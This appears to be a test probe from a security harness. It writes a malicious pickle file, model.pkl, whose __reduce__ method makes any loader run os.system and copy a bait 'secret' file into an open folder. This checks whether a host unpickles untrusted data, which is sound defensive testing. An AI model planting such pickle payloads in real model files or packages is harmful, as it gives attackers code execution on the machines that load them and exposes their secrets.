"""A pickle is delivered as bytes, and nothing loads it."""
# covers: known failure: pickle bombs towards the host
# ends: completed
# delivers: model.pkl
# uncontained: it attacks a host that would load what it is given

import os
import pickle
from pathlib import Path

from probe import bait


class Bomb:
    """Touches a file of the host when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Says what a loader is to call."""
        return os.system, (f"cp {bait.folder}/secret {bait.folder}/open/loaded",)


Path("/tmp/output/model.pkl").write_bytes(pickle.dumps(Bomb()))
